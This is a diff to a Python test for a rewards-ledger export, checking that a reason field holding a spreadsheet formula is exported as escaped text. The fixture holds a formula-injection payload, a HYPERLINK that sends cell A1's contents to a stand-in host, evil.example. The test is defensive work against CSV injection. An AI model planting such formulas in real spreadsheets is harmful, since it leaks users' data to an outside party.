@@ -215,7 +215,8 @@ def test_no_cell_begins_to_calculate_by_commas_or_by_semicolons(text: str) -> No
 def test_a_reason_that_is_a_formula_arrives_as_text(rich: Client, db: Database) -> None:
     formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
     earned(db, rich, BOB, 1, reason=formula)
-    earned(db, rich, BOB, -3.5, source="reversal", reason='two\nlines, "quoted"', reference="1")
+    entry = db.value("select max(id)::text from reward_ledger")
+    earned(db, rich, BOB, -3.5, source="reversal", reason='two\nlines, "quoted"', reference=entry)
     newest, before, *_ = table(rich.slash("export", type="rewards", user=ADMIN))
     assert (newest["amount"], newest["reason"]) == ("-3.5", 'two\nlines, "quoted"')
     assert before["reason"] == f"'{formula}"
